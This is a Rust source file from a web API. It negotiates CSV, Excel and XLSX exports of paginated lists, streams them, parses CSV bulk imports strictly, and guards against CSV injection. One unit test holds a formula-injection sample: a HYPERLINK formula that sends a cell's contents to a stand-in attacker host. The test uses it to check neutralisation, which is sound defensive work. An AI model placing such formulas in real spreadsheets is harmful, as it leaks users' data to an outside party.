//! CSV in and out: content negotiation of the lists (`Accept: text/csv`), the one helper that
//! streams any list as CSV page after page, and the strict RFC 4180 reader of the bulk import.
//!
//! Lists: a handler computes one page (`(items, next_cursor)`) from a cursor and a limit; for
//! JSON it answers that page, for CSV [`respond`] walks every page from the given cursor to the
//! end, writing each to a streaming body as soon as it is read, so memory holds one page
//! whatever the size of the list. The header row names the JSON fields; a nested object is
//! flattened into `<field>_<subfield>` columns (an organisation's `esus` into `esus_status` and
//! `esus_valid_until`, an audit entry's `actor` into `actor_subject`, `actor_role` and
//! `actor_kind`), unless its field is itself a column: then, like an array, it is one cell holding
//! its compact JSON text (an event's `organisers` and `themes`; the objects without a fixed shape,
//! a feed item's `data`, an audit entry's `data` and `changes`), which a consumer parses back.
//! Confidential columns appear only for callers who may see them on some rows, and are empty on
//! the rows they may not see.

use std::borrow::Cow;
use std::collections::HashMap;
use std::future::Future;

use actix_web::dev::Payload;
use actix_web::http::header;
use actix_web::web::Bytes;
use actix_web::{FromRequest, HttpRequest, HttpResponse};
use serde::Serialize;
use serde_json::Value;
use utoipa::Modify;
use utoipa::openapi::schema::{ObjectBuilder, Type};
use utoipa::openapi::{OpenApi, Ref, RefOr};

use crate::domain::message::{Lang, Message, msg};
use crate::http::error::ApiError;
use crate::http::pagination::{MAX_LIMIT, page_limit};

/// The media type of CSV answers and import bodies.
pub const TEXT_CSV: &str = "text/csv";

/// The media type of XLSX answers and import bodies.
pub const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// The forms a list answers in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Form {
    Json,
    /// RFC 4180: `,`, UTF-8 without a byte order mark, CRLF.
    Csv,
    /// What a French Excel opens by double-click: `;`, UTF-8 with a byte order mark, CRLF
    /// (`Accept: text/csv; dialect=excel`).
    ExcelCsv,
    /// An Excel workbook: typed cells, a bold frozen header row.
    Xlsx,
}

/// What a list answers, from the request's `Accept` (see [`negotiate`]), and the name its
/// exports are saved under (`organisations-2026-12-05.csv`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ListFormat {
    pub form: Form,
    /// The list's name from its route: `organisations`, `clubs-members`, `events-history`.
    pub name: String,
    /// The request's path and query, for the link to the next page.
    path: String,
    query: String,
}

impl ListFormat {
    /// The `Link` header to the page after `next` (RFC 8288): this request with its cursor
    /// (`after` for the change feed) replaced.
    fn link_to(&self, next: &str) -> String {
        let resume = if self.name == "changes" { "after" } else { "cursor" };
        let mut query = form_urlencoded::Serializer::new(String::new());
        for (name, value) in form_urlencoded::parse(self.query.as_bytes()) {
            if name != resume {
                query.append_pair(&name, &value);
            }
        }
        query.append_pair(resume, next);
        format!("<{}?{}>; rel=\"next\"", self.path, query.finish())
    }

    /// The `Content-Disposition` of an export in `extension`, dated today in Paris.
    fn attachment(&self, extension: &str) -> String {
        let today = chrono::Utc::now().with_timezone(&chrono_tz::Europe::Paris).date_naive();
        format!("attachment; filename=\"{}-{today}.{extension}\"", self.name)
    }
}

impl FromRequest for ListFormat {
    type Error = ApiError;
    type Future = std::future::Ready<Result<Self, ApiError>>;

    fn from_request(req: &HttpRequest, _: &mut Payload) -> Self::Future {
        let accept: Vec<&str> = req
            .headers()
            .get_all(header::ACCEPT)
            .filter_map(|v| v.to_str().ok())
            .collect();
        let route = req.match_pattern().unwrap_or_else(|| req.path().to_owned());
        let name = route
            .trim_start_matches("/api/v1/")
            .split('/')
            .filter(|segment| !segment.is_empty() && !segment.starts_with('{'))
            .collect::<Vec<_>>()
            .join("-");
        let (path, query) = (req.path().to_owned(), req.query_string().to_owned());
        std::future::ready(negotiate(&accept.join(",")).map(|form| ListFormat {
            form,
            name,
            path,
            query,
        }))
    }
}

/// The form `accept` (an `Accept` header's value; empty when absent) asks for: the one with the
/// highest quality, JSON on a tie (then CSV, Excel's CSV, XLSX); 406 when none is acceptable.
/// `*/*` and `text/*` name JSON and CSV only: Excel's dialect and XLSX are asked for by name.
fn negotiate(accept: &str) -> Result<Form, ApiError> {
    if accept.trim().is_empty() {
        return Ok(Form::Json);
    }
    let forms = [Form::Json, Form::Csv, Form::ExcelCsv, Form::Xlsx];
    let mut quality = [0.0_f32; 4];
    for range in accept.split(',') {
        let mut parts = range.split(';').map(str::trim);
        let media = parts.next().unwrap_or_default().to_ascii_lowercase();
        let mut q = 1.0_f32;
        let mut excel = false;
        for parameter in parts {
            let (name, value) = parameter.split_once('=').unwrap_or((parameter, ""));
            match name.trim().to_ascii_lowercase().as_str() {
                "q" => q = value.trim().parse::<f32>().unwrap_or(1.0).clamp(0.0, 1.0),
                "dialect" => excel = value.trim().trim_matches('"').eq_ignore_ascii_case("excel"),
                _ => {}
            }
        }
        let named: &[Form] = match media.as_str() {
            "*/*" => &[Form::Json, Form::Csv],
            "application/json" | "application/*" => &[Form::Json],
            "text/csv" if excel => &[Form::ExcelCsv],
            "text/csv" | "text/*" => &[Form::Csv],
            XLSX => &[Form::Xlsx],
            _ => &[],
        };
        for form in named {
            let at = forms.iter().position(|f| f == form).unwrap_or_default();
            quality[at] = quality[at].max(q);
        }
    }
    let (best, q) = quality.iter().enumerate().fold(
        (0, 0.0_f32),
        |(best, bq), (at, q)| if *q > bq { (at, *q) } else { (best, bq) },
    );
    if q > 0.0 {
        Ok(forms[best])
    } else {
        Err(ApiError::NotAcceptable(msg!(
            "csv-not-acceptable",
            xlsx = XLSX,
            accept = accept.trim()
        )))
    }
}

/// The columns of a list's CSV: every column in order, in runs (a record's stored fields are
/// one: `EventFields::NAMES`), and those that are confidential.
#[derive(Debug, Clone, Copy)]
pub struct Columns {
    pub parts: &'static [&'static [&'static str]],
    pub confidential: &'static [&'static str],
}

impl Columns {
    /// Every column, in order.
    pub fn all(&self) -> impl Iterator<Item = &'static str> {
        self.parts.iter().flat_map(|part| part.iter().copied())
    }

    /// The columns for a caller who sees confidential fields on some rows (`true`) or never.
    pub fn shown(&self, confidential: bool) -> Vec<&'static str> {
        self.all()
            .filter(|c| confidential || !self.confidential.contains(c))
            .collect()
    }
}

/// Rows per query while a list is exported.
pub const EXPORT_PAGE: i64 = MAX_LIMIT;

/// One page of a list: its items and the cursor of the next page.
pub type Page<T> = (Vec<T>, Option<String>);

/// The answer of a list in the format asked for. `pages(cursor, limit)` reads one page;
/// `json_page` wraps it as the JSON body. JSON: the page at `cursor` of `limit` items. CSV:
/// every item from `cursor` (or the start) to the end of the list, read `EXPORT_PAGE` at a time
/// and streamed; `limit` is checked but does not cut the export. The first page is read before
/// answering, so a bad filter or cursor is still a 400; a database failure on a later page
/// breaks the stream off (the body ends without its final chunk, so clients see a truncated
/// transfer, never a short list that looks complete).
pub async fn respond<T, P, F, Fut>(
    format: ListFormat,
    columns: Vec<&'static str>,
    cursor: Option<String>,
    limit: Option<i64>,
    pages: F,
    json_page: impl FnOnce(Vec<T>, Option<String>) -> P,
) -> Result<HttpResponse, ApiError>
where
    T: Serialize + 'static,
    P: Serialize,
    F: Fn(Option<String>, Option<i64>) -> Fut + 'static,
    Fut: Future<Output = Result<Page<T>, ApiError>> + 'static,
{
    match format.form {
        Form::Json => {
            let (items, next_cursor) = pages(cursor, limit).await?;
            let mut answer = HttpResponse::Ok();
            if let Some(next) = &next_cursor {
                answer.insert_header((header::LINK, format.link_to(next)));
            }
            Ok(answer.json(json_page(items, next_cursor)))
        }
        Form::Csv | Form::ExcelCsv => {
            page_limit(limit)?;
            let first = pages(cursor, Some(EXPORT_PAGE)).await?;
            let dialect = if format.form == Form::ExcelCsv {
                Dialect::EXCEL
            } else {
                Dialect::RFC_4180
            };
            Ok(HttpResponse::Ok()
                .content_type("text/csv; charset=utf-8; header=present")
                .insert_header((header::CONTENT_DISPOSITION, format.attachment("csv")))
                .streaming(stream_pages(columns, dialect, first, pages)))
        }
        Form::Xlsx => {
            page_limit(limit)?;
            let first = pages(cursor, Some(EXPORT_PAGE)).await?;
            let lang = Lang::current();
            let file = crate::http::xlsx::write(&columns, lang, first, pages).await?;
            Ok(HttpResponse::Ok()
                .content_type(XLSX)
                .insert_header((header::CONTENT_LANGUAGE, lang.tag()))
                .insert_header((header::CONTENT_DISPOSITION, format.attachment("xlsx")))
                .no_chunking(file.length)
                .streaming(file.chunks()))
        }
    }
}

/// How a CSV answer separates its cells and whether it starts with a byte order mark.
#[derive(Debug, Clone, Copy)]
pub struct Dialect {
    separator: u8,
    byte_order_mark: bool,
}

impl Dialect {
    pub const RFC_4180: Self = Self {
        separator: b',',
        byte_order_mark: false,
    };
    pub const EXCEL: Self = Self {
        separator: b';',
        byte_order_mark: true,
    };
}

/// What the export does next.
enum Step<T> {
    /// Write this page (the first is read before the answer starts).
    Write(Page<T>),
    /// Read the page at this cursor, then write it.
    Read(String),
    Done,
}

fn stream_pages<T, F, Fut>(
    columns: Vec<&'static str>,
    dialect: Dialect,
    first: Page<T>,
    pages: F,
) -> impl futures_util::Stream<Item = Result<Bytes, ApiError>> + 'static
where
    T: Serialize + 'static,
    F: Fn(Option<String>, Option<i64>) -> Fut + 'static,
    Fut: Future<Output = Result<Page<T>, ApiError>> + 'static,
{
    let mut header = Vec::new();
    if dialect.byte_order_mark {
        header.extend_from_slice(b"\xEF\xBB\xBF");
    }
    write_record_with(&mut header, dialect.separator, columns.iter().copied());
    let start = (Step::Write(first), Some(header), columns, pages);
    futures_util::stream::unfold(start, move |(step, header, columns, pages)| async move {
        let (items, next) = match step {
            Step::Done => return None,
            Step::Write(page) => page,
            Step::Read(cursor) => match pages(Some(cursor), Some(EXPORT_PAGE)).await {
                Ok(page) => page,
                Err(error) => {
                    tracing::error!(error = %error, "a CSV export broke off: a page could not be read");
                    return Some((Err(error), (Step::Done, None, columns, pages)));
                }
            },
        };
        let mut chunk = header.unwrap_or_default();
        for item in &items {
            match cells_of(item, &columns) {
                Ok(cells) => write_record_with(
                    &mut chunk,
                    dialect.separator,
                    columns
                        .iter()
                        .map(|c| cells.get(*c).map_or(Cow::Borrowed(""), text_cell)),
                ),
                Err(error) => return Some((Err(error), (Step::Done, None, columns, pages))),
            }
        }
        let step = next.map_or(Step::Done, Step::Read);
        Some((Ok(Bytes::from(chunk)), (step, None, columns, pages)))
    })
}

/// A cell's value as CSV text: a string neutralised (see [`neutralised`]); a number or a boolean
/// as JSON writes it; an array or an object as its compact JSON text.
fn text_cell(value: &Value) -> Cow<'_, str> {
    match value {
        Value::String(text) => neutralised(text),
        other => Cow::Owned(other.to_string()),
    }
}

/// An item as cells by column name: nested objects flattened with `_`, except an object whose
/// own name is one of `columns`, which is one cell (of JSON text) as arrays are; `null` and
/// withheld fields absent (an empty cell). The values keep their JSON type, for XLSX.
pub fn cells_of<T: Serialize>(item: &T, columns: &[&str]) -> Result<HashMap<String, Value>, ApiError> {
    fn walk(prefix: &str, value: Value, columns: &[&str], cells: &mut HashMap<String, Value>) {
        match value {
            Value::Null => {}
            Value::Object(fields) if prefix.is_empty() || !columns.contains(&prefix) => {
                for (name, value) in fields {
                    let column = if prefix.is_empty() {
                        name
                    } else {
                        format!("{prefix}_{name}")
                    };
                    walk(&column, value, columns, cells);
                }
            }
            other => {
                cells.insert(prefix.to_owned(), other);
            }
        }
    }
    let value = serde_json::to_value(item).map_err(|e| ApiError::Internal(anyhow::Error::new(e)))?;
    let mut cells = HashMap::new();
    walk("", value, columns, &mut cells);
    Ok(cells)
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV
/// injection"): `=`, `+`, `-`, `@`, tab and carriage return.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as exported: one that a spreadsheet would take for a formula gets a leading `'`,
/// which spreadsheets show as text (OWASP's advice against CSV injection); so does one that
/// already begins with `'`, so that [`unneutralised`] can take exactly one `'` off on import.
pub fn neutralised(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) || text.starts_with('\'') {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// A text cell as imported: the `'` that [`neutralised`] put before a formula character or a
/// `'` is taken off, so that an exported file imports as the records it came from.
pub fn unneutralised(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) || rest.starts_with('\'') => rest,
        _ => cell,
    }
}

/// Appends one CSV record (RFC 4180: `,` separated, CRLF ended); a cell with a separator, a
/// quote or a line break is quoted, its quotes doubled.
pub fn write_record<'a>(out: &mut Vec<u8>, cells: impl IntoIterator<Item = &'a str>) {
    write_record_with(out, b',', cells);
}

/// Appends one CSV record separated by `separator` (`,` or `;`), CRLF ended; a cell with either
/// separator, a quote or a line break is quoted, its quotes doubled.
fn write_record_with<S: AsRef<str>>(out: &mut Vec<u8>, separator: u8, cells: impl IntoIterator<Item = S>) {
    for (index, cell) in cells.into_iter().enumerate() {
        let cell = cell.as_ref();
        if index > 0 {
            out.push(separator);
        }
        if cell.contains([',', '"', '\r', '\n', ';']) {
            out.push(b'"');
            out.extend_from_slice(cell.replace('"', "\"\"").as_bytes());
            out.push(b'"');
        } else {
            out.extend_from_slice(cell.as_bytes());
        }
    }
    out.extend_from_slice(b"\r\n");
}

/// A CSV file read strictly: its header and its data records, each with as many cells as the
/// header. `;` or `,` separates cells (the one the header line uses); a UTF-8 byte order mark
/// is skipped; lines end with LF or CRLF; a quoted cell may hold separators, doubled quotes and
/// line breaks.
#[derive(Debug, PartialEq, Eq)]
pub struct CsvTable {
    pub header: Vec<String>,
    pub records: Vec<Vec<String>>,
}

/// Why a CSV file cannot be read, with the line where it happens (1 is the header's line).
#[derive(Debug, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct CsvError(pub Message);

pub fn read_table(bytes: &[u8]) -> Result<CsvTable, CsvError> {
    let reader = read_records(bytes)?;
    let header = reader.header.clone();
    let records = reader
        .map(|record| record.map(|(_, cells)| cells))
        .collect::<Result<_, _>>()?;
    Ok(CsvTable { header, records })
}

/// A CSV file read one record at a time (the rules of [`CsvTable`]), so that a large file never
/// stands in memory as a table: its header, then each data record with the line it starts on.
#[derive(Debug)]
pub struct CsvRecords<C: Iterator<Item = char>> {
    pub header: Vec<String>,
    records: Records<C>,
}

/// Checks the encoding and reads the header line of a CSV file.
pub fn read_records(bytes: &[u8]) -> Result<CsvRecords<impl Iterator<Item = char> + '_>, CsvError> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let text = std::str::from_utf8(bytes).map_err(|e| {
        let line = 1 + bytes[..e.valid_up_to()].iter().filter(|b| **b == b'\n').count();
        CsvError(msg!("csv-not-utf8", line = line, byte = e.valid_up_to()))
    })?;
    read_text_records(text.chars())
}

/// Reads the header line of a CSV text given character by character (its byte order mark
/// already taken off), and then its records as they are asked for.
pub fn read_text_records<I: Iterator<Item = char>>(
    mut chars: I,
) -> Result<CsvRecords<impl Iterator<Item = char>>, CsvError> {
    let mut first_line = Vec::new();
    for c in chars.by_ref() {
        first_line.push(c);
        if matches!(c, '\n' | '\r') {
            break;
        }
    }
    let text: String = first_line.iter().take_while(|c| !matches!(c, '\n' | '\r')).collect();
    if text.trim().is_empty() {
        return Err(CsvError(msg!("csv-no-header")));
    }
    let separator = if text.contains(';') { ';' } else { ',' };
    let mut records = Records {
        chars: first_line.into_iter().chain(chars).peekable(),
        line: 1,
        separator,
        stopped: false,
    };
    let header = match records.next() {
        Some(header) => header?.1,
        None => Vec::new(),
    };
    Ok(CsvRecords { header, records })
}

impl<C: Iterator<Item = char>> Iterator for CsvRecords<C> {
    type Item = Result<(usize, Vec<String>), CsvError>;

    fn next(&mut self) -> Option<Self::Item> {
        let (line, record) = match self.records.next()? {
            Ok(record) => record,
            Err(error) => return Some(Err(error)),
        };
        if record.len() != self.header.len() {
            return Some(Err(CsvError(msg!(
                "csv-cell-count",
                line = line,
                cells = record.len(),
                columns = self.header.len(),
                separator = self.records.separator.to_string()
            ))));
        }
        Some(Ok((line, record)))
    }
}

/// The records of a text with the line each starts on; blank lines are skipped.
#[derive(Debug)]
struct Records<C: Iterator<Item = char>> {
    chars: std::iter::Peekable<C>,
    line: usize,
    separator: char,
    /// A record was malformed: nothing is read after it.
    stopped: bool,
}

impl<C: Iterator<Item = char>> Iterator for Records<C> {
    type Item = Result<(usize, Vec<String>), CsvError>;

    fn next(&mut self) -> Option<Self::Item> {
        loop {
            if self.stopped {
                return None;
            }
            self.chars.peek()?;
            match self.record() {
                Ok(Some(record)) => return Some(Ok(record)),
                Ok(None) => {}
                Err(error) => {
                    self.stopped = true;
                    return Some(Err(error));
                }
            }
        }
    }
}

impl<C: Iterator<Item = char>> Records<C> {
    /// The next record, `None` for a blank line.
    fn record(&mut self) -> Result<Option<(usize, Vec<String>)>, CsvError> {
        let separator = self.separator;
        let chars = &mut self.chars;
        let start = self.line;
        let mut record = Vec::new();
        let mut cell = String::new();
        let mut quoted = false;
        loop {
            match chars.next() {
                None => {
                    record.push(std::mem::take(&mut cell));
                    break;
                }
                Some('"') if cell.is_empty() && !quoted => {
                    quoted = true;
                    let opened = self.line;
                    loop {
                        match chars.next() {
                            None => {
                                return Err(CsvError(msg!("csv-quote-unclosed", line = opened)));
                            }
                            Some('"') if chars.peek() == Some(&'"') => {
                                chars.next();
                                cell.push('"');
                            }
                            Some('"') => break,
                            Some(c) => {
                                if c == '\n' {
                                    self.line += 1;
                                }
                                cell.push(c);
                            }
                        }
                    }
                    match chars.peek() {
                        None | Some('\r' | '\n') => {}
                        Some(c) if *c == separator => {}
                        Some(_) => {
                            return Err(CsvError(msg!("csv-text-after-quote", line = self.line)));
                        }
                    }
                }
                Some('"') => {
                    return Err(CsvError(msg!("csv-quote-in-unquoted", line = self.line)));
                }
                Some(c) if c == separator => {
                    record.push(std::mem::take(&mut cell));
                    quoted = false;
                }
                Some('\r') if chars.peek() == Some(&'\n') => {}
                Some('\r' | '\n') => {
                    self.line += 1;
                    record.push(std::mem::take(&mut cell));
                    break;
                }
                Some(c) => cell.push(c),
            }
        }
        let blank = record.len() == 1 && record[0].is_empty() && !quoted;
        Ok((!blank).then_some((start, record)))
    }
}

/// Every list that answers CSV, with its columns: what the OpenAPI document shows.
pub const CSV_LISTS: [(&str, Columns); 18] = [
    ("/api/v1/organisations", crate::http::organisations::CSV_COLUMNS),
    (
        "/api/v1/organisations/{id}/esus-accreditations",
        crate::http::esus::CSV_COLUMNS,
    ),
    ("/api/v1/clubs", crate::http::clubs::CLUB_COLUMNS),
    ("/api/v1/clubs/{id}/members", crate::http::clubs::MEMBER_COLUMNS),
    ("/api/v1/events", crate::http::events::CSV_COLUMNS),
    ("/api/v1/sponsorships", crate::http::sponsorships::CSV_COLUMNS),
    ("/api/v1/users", crate::http::users::CSV_COLUMNS),
    ("/api/v1/clients", crate::http::clients::CSV_COLUMNS),
    ("/api/v1/changes", crate::http::changes::CSV_COLUMNS),
    ("/api/v1/audit", crate::http::audit::CSV_COLUMNS),
    ("/api/v1/organisations/{id}/history", crate::http::audit::CSV_COLUMNS),
    (
        "/api/v1/esus-accreditations/{id}/history",
        crate::http::audit::CSV_COLUMNS,
    ),
    ("/api/v1/clubs/{id}/history", crate::http::audit::CSV_COLUMNS),
    ("/api/v1/events/{id}/history", crate::http::audit::CSV_COLUMNS),
    ("/api/v1/sponsorships/{id}/history", crate::http::audit::CSV_COLUMNS),
    ("/api/v1/users/{id}/history", crate::http::audit::CSV_COLUMNS),
    ("/api/v1/clients/{id}/history", crate::http::audit::CSV_COLUMNS),
    ("/api/v1/webhooks", crate::http::webhooks::CSV_COLUMNS),
];

/// Documents the exports of every list in its description — CSV, Excel's CSV and XLSX, asked
/// for with `Accept`, with the CSV header line — and the 406 of an `Accept` that allows none.
/// The 200 lists JSON alone, so that a generated client types a list's answer as its page
/// (openapi-fetch's default media type, for one, takes every media type listed).
pub struct CsvLists;

impl Modify for CsvLists {
    fn modify(&self, openapi: &mut OpenApi) {
        for (path, columns) in CSV_LISTS {
            let Some(operation) = openapi.paths.paths.get_mut(path).and_then(|item| item.get.as_mut()) else {
                continue;
            };
            // Where an export starts: the feed resumes `after` a position, the other lists at a `cursor`.
            let start = match &operation.parameters {
                Some(parameters) if parameters.iter().any(|p| matches!(p, RefOr::T(p) if p.name == "after")) => "after",
                _ => "cursor",
            };
            let mut header = Vec::new();
            write_record(&mut header, columns.all());
            let mut export = format!(
                "**Exports.** `Accept: text/csv` answers every row from `{start}` (or the start) to the \
                 end as CSV, under the header line `{}`: an array, or an object named by a column, is \
                 one cell of compact JSON text; confidential columns only for callers who see them. A \
                 text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return (or with \
                 `'`) gets a leading `'`, so that no spreadsheet runs it as a formula; the bulk import \
                 takes it off again. `Accept: text/csv; dialect=excel` gives what a French Excel opens \
                 by double-click: `;` between cells, UTF-8 with a byte order mark. `Accept: {XLSX}` \
                 gives the same rows as an Excel workbook of one sheet under a bold, frozen header row \
                 of column titles in the request's language (`Accept-Language`); its cells are typed: \
                 dates and date-times (UTC) as dates, amounts in euros, numbers and booleans as such, \
                 identifiers and codes as text (SIRETs and postal codes stay whole). Each is an \
                 attachment named after the list and the day (`Content-Disposition`). The 200 below \
                 lists JSON alone, so that generated clients type the page.",
                String::from_utf8_lossy(&header).trim_end()
            );
            if !columns.confidential.is_empty() {
                export.push_str(&format!(" Confidential columns: {}.", columns.confidential.join(", ")));
            }
            operation.description = Some(match operation.description.take() {
                Some(description) => format!("{description}\n\n{export}"),
                None => export,
            });
            let responses = &mut operation.responses.responses;
            if let Some(RefOr::T(ok)) = responses.get_mut("200") {
                ok.headers.insert(
                    "Link".to_owned(),
                    RefOr::T(
                        utoipa::openapi::header::HeaderBuilder::new()
                            .schema(Some(ObjectBuilder::new().schema_type(Type::String)))
                            .description(Some(format!(
                                "JSON pages with more after them: the next page, `<…?{start}=…>; rel=\"next\"` \
                             (RFC 8288), this request with its `{start}` moved on."
                            )))
                            .build(),
                    ),
                );
            }
            responses
                .entry("406".to_owned())
                .or_insert_with(|| RefOr::Ref(Ref::from_response_name("NotAcceptable")));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table(text: &str) -> Result<CsvTable, CsvError> {
        read_table(text.as_bytes())
    }

    #[test]
    fn read_table_reads_both_separators_quotes_and_line_breaks() {
        let expected = CsvTable {
            header: vec!["name".into(), "city".into()],
            records: vec![
                vec!["A; \"B\", C".into(), "Lodève".into()],
                vec!["two\nlines".into(), String::new()],
            ],
        };
        let comma = "name,city\r\n\"A; \"\"B\"\", C\",Lodève\r\n\"two\nlines\",\r\n";
        let semicolon = "\u{feff}name;city\n\"A; \"\"B\"\", C\";Lodève\n\"two\nlines\";";
        assert_eq!(table(comma).unwrap(), expected);
        assert_eq!(table(semicolon).unwrap(), expected);
    }

    #[test]
    fn read_table_refuses_malformed_files_naming_the_line() {
        for (text, line, why) in [
            ("a,b\n1,2\n\"3,4\n", "line 3", "unclosed quote"),
            ("a,b\n1,2,3\n", "line 2", "too many cells"),
            ("a,b\n1\n", "line 2", "too few cells"),
            ("a,b\n1,x\"y\n", "line 2", "quote in an unquoted cell"),
            ("a,b\n\"1\"x,2\n", "line 2", "text after a closing quote"),
            ("", "header", "empty"),
        ] {
            let error = table(text).expect_err(why);
            assert!(error.to_string().contains(line), "{why}: {error}");
        }
        let error = read_table(b"a,b\n1,\xff\n").expect_err("not UTF-8");
        let text = error.to_string();
        assert!(text.contains("UTF-8") && text.contains("line 2"), "{error}");
    }

    #[test]
    fn write_record_quotes_what_must_be_and_reads_back() {
        let mut out = Vec::new();
        write_record(&mut out, ["id", "name"]);
        write_record(&mut out, ["1", "Le \"Club\", Lodève;\nsuite"]);
        write_record(&mut out, ["2", ""]);
        let back = read_table(&out).unwrap();
        assert_eq!(back.header, ["id", "name"]);
        assert_eq!(back.records[0][1], "Le \"Club\", Lodève;\nsuite");
        assert_eq!(back.records[1], ["2", ""]);
    }

    #[test]
    fn neutralised_cells_cannot_be_formulas_and_unneutralised_gives_them_back() {
        for (text, exported) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            ),
            ("+33 4 67 00 00 00", "'+33 4 67 00 00 00"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("'quoted", "''quoted"),
            ("'", "''"),
            ("Lodève = ESS", "Lodève = ESS"),
            ("", ""),
        ] {
            assert_eq!(neutralised(text), exported, "{text:?}");
            assert_eq!(unneutralised(exported), text, "{exported:?} imports as it was exported");
        }
        assert_eq!(unneutralised("'abc"), "'abc", "a ' before plain text is the cell's own");
    }

    #[test]
    fn flatten_spreads_objects_unless_a_column_names_them() {
        let item = serde_json::json!({
            "id": 7,
            "actor": {"subject": "cli_1", "role": null},
            "data": {"name": "Le \"Club\"", "themes": ["a"]},
            "changes": null,
            "tags": ["x", "y"],
        });
        let cells: HashMap<String, String> =
            cells_of(&item, &["id", "actor_subject", "actor_role", "data", "changes", "tags"])
                .unwrap()
                .iter()
                .map(|(column, value)| (column.clone(), text_cell(value).into_owned()))
                .collect();
        assert_eq!(cells["id"], "7");
        assert_eq!(
            cells["actor_subject"], "cli_1",
            "an object with no column of its own is spread"
        );
        assert!(
            !cells.contains_key("actor_role") && !cells.contains_key("changes"),
            "null: an empty cell"
        );
        assert_eq!(
            cells["data"], r#"{"name":"Le \"Club\"","themes":["a"]}"#,
            "compact JSON text"
        );
        assert_eq!(serde_json::from_str::<Value>(&cells["data"]).unwrap(), item["data"]);
        assert_eq!(cells["tags"], r#"["x","y"]"#);
        assert!(!cells.contains_key("data_name"));
    }

    #[test]
    fn negotiate_prefers_json_unless_csv_wins() {
        use Form::*;
        for (accept, expected) in [
            ("", Json),
            ("*/*", Json),
            ("application/json", Json),
            ("text/csv", Csv),
            ("text/csv, application/json;q=0.9", Csv),
            ("text/csv;q=0.5, application/json", Json),
            ("text/*", Csv),
            ("application/xml, text/csv;q=0.1", Csv),
            ("application/xml, */*;q=0.1", Json),
            ("text/csv; dialect=excel", ExcelCsv),
            ("text/csv;dialect=\"excel\";q=0.9, application/json;q=0.5", ExcelCsv),
            (XLSX, Xlsx),
            (
                "application/json;q=0.5, application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                Xlsx,
            ),
            (
                "*/*, application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                Json,
            ),
        ] {
            assert_eq!(negotiate(accept).ok(), Some(expected), "{accept}");
        }
        for accept in ["application/xml", "text/html", "application/json;q=0, text/csv;q=0"] {
            assert!(negotiate(accept).is_err(), "{accept} is not acceptable");
        }
    }
}
